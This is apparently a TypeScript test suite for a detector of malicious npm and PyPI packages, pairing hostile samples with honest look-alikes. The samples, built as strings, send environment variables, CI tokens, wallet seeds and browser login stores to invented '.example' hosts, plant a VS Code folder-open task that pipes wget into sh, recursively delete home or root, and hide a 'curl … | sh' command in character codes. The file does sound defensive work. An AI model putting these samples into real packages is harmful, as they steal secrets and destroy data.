/**
 * The `pkgnpm11` round: behaviours the blind npm SET11 / PyPI SET6 tuning halves (even index) missed, and
 * the two PyPI twins that were BLOCKED, each as a general rule with its real shape (the even-index item),
 * variants written here (other syntax, library, place) and the honest look-alike it must not flag
 * (neither BLOCKED nor CAUTION):
 *
 *  - the whole environment, or a token at install, sent to a host merely named after the package (npm);
 *  - a secret environment variable read by a computed name from a list of names (npm);
 *  - a VS Code task set to run on folder open, with a download, written into a project (npm);
 *  - a wallet's seed (what a key-derivation call takes) handed to another module that sends it (npm);
 *  - js-yaml's load with the full schema on fetched text, fetched through a promise helper (npm);
 *  - a browser's password or cookie store copied and handed to another module that sends it (npm);
 *  - a setup.py helper imported from a folder put on sys.path (Python);
 *  - a recursive delete of the working directory, a user folder or sys.prefix (Python);
 *  - execution names glued from pieces or character codes (Python);
 *  - twins: OS and architecture in a download URL are not recon; a cookie store read in a function the
 *    caller calls, in a file that sends nothing, is the caller's own session (Python).
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';
import type { NpmVariant } from '../support/npm-variants.js';
import { NPM_VARIANTS_SET11 } from '../support/npm-variants-set11.js';
import { blocked, evenOf, honest, rate, twinOf } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';
import { PYPI_TWINS_SET6, PYPI_VARIANTS_SET6 } from '../support/pypi-variants-set6.js';

const pypi6 = evenOf(PYPI_VARIANTS_SET6);
const pyTwin = twinOf(PYPI_TWINS_SET6);

/** An even-index (tuning) item of npm SET11 by id; a held-out one fails the test. */
function npm11(id: string): NpmVariant {
  const i = NPM_VARIANTS_SET11.findIndex((v) => v.id === id);
  assert.ok(i >= 0 && i % 2 === 0, `${id} is an even-index (tuning) variant`);
  return NPM_VARIANTS_SET11[i]!;
}

async function npmBlocked(files: Record<string, string | Buffer>, rule?: string, name = 'x'): Promise<void> {
  const r = await rateNpmFiles(files, { name });
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
  if (rule) assert.ok(r.rules.some((x) => x.startsWith(`${rule}:`)), `${rule} not among ${r.rules.join(', ')}`);
}

async function npmHonest(files: Record<string, string | Buffer>, name = 'x'): Promise<void> {
  const r = await rateNpmFiles(files, { name });
  assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${r.level}: ${r.rules.join(', ')}`);
}

const main = (src: string, name = 'x', extra: Record<string, string> = {}): Record<string, string> => ({
  'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js' }),
  'index.js': src,
  ...extra,
});

const hook = (src: string, name = 'x', extra: Record<string, string> = {}): Record<string, string> => ({
  'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node install.js' } }),
  'index.js': 'module.exports = {};\n',
  'install.js': src,
  ...extra,
});

const py = (name: string, files: Record<string, string>) => sdist(name, files);

// ---- npm: the environment or a token to a host only named after the package ---------------------------

test('npm: the whole environment sent on import to a host named after the package is BLOCKED', async () => {
  await npmBlocked(npm11('chalk-lookalike-copied-plus-beacon').files, 'fingerprint_send');
  // Variant: fetch with the environment in the body, package named like the host.
  await npmBlocked(
    main("fetch('https://telemetry.color-kit.example/v1', { method: 'POST', body: JSON.stringify({ env: process.env }) }).catch(() => {});\nmodule.exports = {};\n", 'color-kit'),
    'fingerprint_send',
    'color-kit',
  );
});

test('npm: a library sending its own counters to the host its homepage declares stays quiet', async () => {
  await npmHonest(
    {
      'package.json': JSON.stringify({ name: 'color-kit', version: '1.0.0', main: 'index.js', homepage: 'https://color-kit.example' }),
      'index.js': "exports.report = (n) => fetch('https://api.color-kit.example/v1/usage', { method: 'POST', body: JSON.stringify({ n, node: process.version }) });\n",
    },
    'color-kit',
  );
});

test('npm: CI tokens sent at install to a host only named after the package are BLOCKED', async () => {
  await npmBlocked(npm11('ci-only-actions-oidc-and-runtime-token').files, 'secret_send');
  // Variant: axios, a deploy token, host named after the package.
  await npmBlocked(
    hook("const axios = require('axios');\nif (process.env.CI) axios.post('https://metrics.deploy-cache.example/c', { t: process.env.VERCEL_TOKEN }).catch(() => {});\n", 'deploy-cache'),
    'secret_send',
    'deploy-cache',
  );
});

test('npm: a secret variable read by a computed name from a list of names, sent at install, is BLOCKED', async () => {
  await npmBlocked(npm11('env-in-cookie-header-get').files, 'secret_send');
  await npmBlocked(
    hook("const https = require('https');\nconst KEYS = ['NPM_TOKEN', 'GH_TOKEN'];\nconst v = KEYS.map((k) => process.env[k]).join(';');\nhttps.get({ host: 'stats.tool-kit.example', path: '/p?v=' + encodeURIComponent(v) });\n", 'tool-kit'),
    'secret_send',
    'tool-kit',
  );
});

test('npm: a CI-detection list of variable names read at install (no token names, nothing sent) stays quiet', async () => {
  await npmHonest(
    hook("const names = ['CI', 'GITHUB_ACTIONS', 'BUILDKITE', 'CIRCLECI'];\nconst ci = names.map((k) => process.env[k]).some(Boolean);\nif (!ci) console.log('thanks for installing');\n"),
  );
});

// ---- npm: an editor task that runs on folder open ----------------------------------------------------------

test('npm: a VS Code task that runs on folder open and downloads, written into the project at install, is BLOCKED', async () => {
  await npmBlocked(npm11('writes-vscode-folderopen-task-into-project').files, 'install_persistence');
  // Variant: a workspace file, wget, written with fs.promises.
  await npmBlocked(
    hook("const fs = require('fs');\nconst path = require('path');\nconst ws = { folders: [{ path: '.' }], tasks: { version: '2.0.0', tasks: [{ label: 'sync', type: 'shell', command: 'wget -qO- https://sync.example/s | sh', runOptions: { runOn: 'folderOpen' } }] } };\nfs.writeFileSync(path.join(process.env.INIT_CWD, 'project.code-workspace'), JSON.stringify(ws));\n"),
    'install_persistence',
  );
});

test('npm: a VS Code task written without folderOpen, or one that only runs the build, stays quiet', async () => {
  await npmHonest(
    hook("const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(process.env.INIT_CWD, '.vscode');\nfs.mkdirSync(dir, { recursive: true });\nfs.writeFileSync(path.join(dir, 'tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [{ label: 'build', type: 'npm', script: 'build', runOptions: { runOn: 'folderOpen' } }] }));\n"),
  );
});

// ---- npm: a wallet's seed handed to a module that sends it ---------------------------------------------------

test('npm: a seed given to a key derivation and handed to a module that posts it is BLOCKED', async () => {
  await npmBlocked(npm11('wallet-sdk-fromseed-posts-seed').files, 'secret_send');
  // Variant: bip39 mnemonic, a helper module using fetch.
  await npmBlocked(
    main("const bip39 = require('bip39');\nconst { ping } = require('./net');\nexports.restore = async (words) => { const seed = await bip39.mnemonicToSeed(words); ping(words); return seed; };\n", 'x', {
      'net.js': "exports.ping = (w) => fetch('https://node-status.example/v1', { method: 'POST', body: JSON.stringify({ w }) }).catch(() => {});\n",
    }),
    'secret_send',
  );
});

test('npm: a wallet SDK that derives a key and sends only the signed transaction to the node the caller names stays quiet', async () => {
  await npmHonest(
    main("const keypairs = require('ripple-keypairs');\nconst { submit } = require('./client');\nexports.pay = (seed, url, tx) => { const kp = keypairs.deriveKeypair(seed); return submit(url, keypairs.sign(JSON.stringify(tx), kp.privateKey)); };\n", 'x', {
      'client.js': "exports.submit = (url, blob) => fetch(url, { method: 'POST', body: JSON.stringify({ tx_blob: blob }) });\n",
    }),
  );
});

// ---- npm: js-yaml full schema on fetched text ---------------------------------------------------------------

test("npm: js-yaml's full schema on fetched text is BLOCKED (fetched through a promise helper)", async () => {
  await npmBlocked(npm11('js-yaml-full-schema-remote-config').files, 'deserialize_fetched');
  await npmBlocked(
    main("const jsyaml = require('js-yaml');\nexports.pull = async () => { const r = await fetch('https://cfg.example/a.yml'); return jsyaml.loadAll(await r.text(), null, { schema: jsyaml.DEFAULT_FULL_SCHEMA }); };\n"),
    'deserialize_fetched',
  );
});

test("npm: js-yaml's default (safe) schema on fetched text stays quiet", async () => {
  await npmHonest(
    main("const yaml = require('js-yaml');\nconst https = require('https');\nconst get = (u) => new Promise((res) => https.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => res(d)); }));\nexports.load = async () => yaml.load(await get('https://cfg.example/a.yml'));\n"),
  );
});

// ---- npm: a browser store copied and handed to a sender ---------------------------------------------------------

test('npm: browser login / cookie stores copied at install and handed to a module that uploads them are BLOCKED', async () => {
  await npmBlocked(npm11('telegram-senddocument-browser-logins').files, 'secret_send');
  // Variant: Firefox's logins.json, fs.cpSync, a helper using fetch with FormData.
  await npmBlocked(
    hook("const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst up = require('./lib/up');\nfor (const f of ['logins.json', 'key4.db']) {\n  const src = path.join(os.homedir(), '.mozilla/firefox/abc.default', f);\n  const dst = path.join(os.tmpdir(), f);\n  try { fs.cpSync(src, dst); up(dst); } catch (e) {}\n}\n", 'x', {
      'lib/up.js': "const fs = require('fs');\nmodule.exports = (p) => fetch('https://drop.example/u', { method: 'POST', body: fs.readFileSync(p) }).catch(() => {});\n",
    }),
    'secret_send',
  );
});

test('npm: a profile tool that copies a browser profile locally for a backup, sending nothing, stays quiet', async () => {
  await npmHonest(
    main("const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { log } = require('./log');\nexports.backup = (to) => { const src = path.join(os.homedir(), '.config/google-chrome/Default/Bookmarks'); const dst = path.join(to, 'Bookmarks'); fs.copyFileSync(src, dst); log(dst); };\n", 'x', {
      'log.js': 'exports.log = (p) => console.log("saved", p);\n',
    }),
  );
});

// ---- Python: a setup.py helper on sys.path -----------------------------------------------------------------------

test('PyPI: setup.py importing a helper from a folder it puts on sys.path runs it at install (BLOCKED)', async () => {
  await blocked(pypi6('issue-tracker-issue-body-secrets'));
  // Variant: sys.path.append(os.path.join(os.path.dirname(__file__), "build_helpers")), `import notes`.
  await blocked(
    sdist('relnotes-x', {
      'setup.py':
        'import os, sys\nsys.path.append(os.path.join(os.path.dirname(__file__), "build_helpers"))\nimport notes\nfrom setuptools import setup\nnotes.push()\nsetup(name="relnotes-x", version="1.0.0")\n',
      'build_helpers/notes.py': 'import json, os, urllib.request\n\ndef push():\n    urllib.request.urlopen("https://collect.example/i", data=json.dumps(dict(os.environ)).encode())\n',
    }),
  );
});

test('PyPI: setup.py reading its version from a helper on sys.path stays quiet', async () => {
  await honest(
    sdist('relnotes-y', {
      'setup.py': 'import sys\nsys.path.insert(0, "tools")\nfrom versioning import get_version\nfrom setuptools import setup\nsetup(name="relnotes-y", version=get_version())\n',
      'tools/versioning.py': 'def get_version():\n    with open("VERSION") as f:\n        return f.read().strip()\n',
    }),
  );
});

// ---- Python: destructive deletes ------------------------------------------------------------------------------------

test('PyPI: a recursive delete of the working tree, a user folder or the environment is BLOCKED', async () => {
  await blocked(pypi6('date-bomb-rmtree-in-flush'), 'destructive_wipe');
  await blocked(py('cleanup-x', { 'cleanup_x/__init__.py': 'import shutil\nfrom pathlib import Path\n\ndef reset():\n    shutil.rmtree(Path.home(), ignore_errors=True)\n' }), 'destructive_wipe');
  await blocked(py('cleanup-z', { 'cleanup_z/__init__.py': 'import os\nfrom shutil import rmtree\n\ndef purge():\n    for p in [os.path.expanduser("~/Desktop"), "/"]:\n        rmtree(p)\n' }), 'destructive_wipe');
});

test('PyPI: deleting a build folder inside the working tree or an app cache under home stays quiet', async () => {
  await honest(
    py('cleanup-y', {
      'cleanup_y/__init__.py':
        'import os, shutil\n\ndef clean():\n    shutil.rmtree(os.path.join(os.getcwd(), "build"), ignore_errors=True)\n    for d in (os.path.expanduser("~/.cache/cleanup-y"), "dist"):\n        shutil.rmtree(d, ignore_errors=True)\n',
    }),
  );
});

// ---- Python: names of execution glued from pieces -----------------------------------------------------------------

test('PyPI: names of execution glued from pieces or character codes are BLOCKED at import', async () => {
  await blocked(pypi6('getattr-globals-vars-indirection'), 'split_exec_name');
  await blocked(pypi6('payload-buried-in-large-table-module'), 'split_exec_name');
  await blocked(py('glue-x', { 'glue_x/__init__.py': 'import builtins\nf = getattr(builtins, "ex" + "ec")\nf(open(__file__ + ".dat").read())\n' }), 'split_exec_name');
  await blocked(py('glue-z', { 'glue_z/__init__.py': 'import os\nc = bytes([99, 117, 114, 108, 32, 104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 97, 32, 124, 32, 115, 104]).decode()\nos.system(c)\n' }), 'split_exec_name');
});

test('PyPI: ordinary string joins and character tables stay quiet', async () => {
  await honest(
    py('glue-y', {
      'glue_y/__init__.py':
        'SEP = "-" + "-"\nBANNER = "".join(["a", "b", "c"])\nALPHA = "".join(map(chr, [97, 98, 99, 100]))\n\ndef label(name):\n    return "x_" + "system"[0:3] + name\n',
    }),
  );
});

// ---- Python twins ------------------------------------------------------------------------------------------------------

test('PyPI twin: a download checked against a pinned sha256 and only written is not recon; a host name in the URL still is', async () => {
  const r = await rate(pyTwin('twin-setup-downloads-tool-sha256-write-only'));
  assert.ok(r.level !== 'BLOCKED', `${r.level}: ${r.rules.join(', ')}`);
  assert.not.ok(r.rules.includes('recon_exfil_flow'), r.rules.join(', '));
  await blocked(
    sdist('fetch-tool-x', {
      'setup.py':
        'import socket, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen("https://dl.fetch-tool.example/t?h=" + socket.gethostname()).read()\nsetup(name="fetch-tool-x", version="1.0.0")\n',
    }),
  );
});

test("PyPI twin: a cookie store read in a function the caller calls is the caller's session; read at import, or sent, it is BLOCKED", async () => {
  const r = await rate(pyTwin('twin-cookies-from-browser-on-request'));
  assert.ok(r.level !== 'BLOCKED', `${r.level}: ${r.rules.join(', ')}`);
  // The same reader called by the package's own module-level code: read on import, unasked.
  await blocked(
    py('media-grab-x', {
      'media_grab_x/cookies.py':
        'import glob, os, shutil, sqlite3, tempfile\n\ndef firefox_cookies():\n    p = glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*/cookies.sqlite"))\n    tmp = os.path.join(tempfile.mkdtemp(), "c.sqlite")\n    shutil.copyfile(p[0], tmp)\n    return dict(sqlite3.connect(tmp).execute("SELECT name, value FROM moz_cookies"))\n',
      'media_grab_x/__init__.py': 'from .cookies import firefox_cookies\n\nJAR = firefox_cookies()\n',
    }),
  );
  // The same read in a file that posts the store to a fixed host.
  await blocked(
    py('media-grab-z', {
      'media_grab_z/__init__.py':
        'import glob, os, urllib.request\n\ndef sync():\n    p = glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*/cookies.sqlite"))[0]\n    urllib.request.urlopen("https://sync.media-grab.example/u", data=open(p, "rb").read())\n',
    }),
  );
});

test.run();
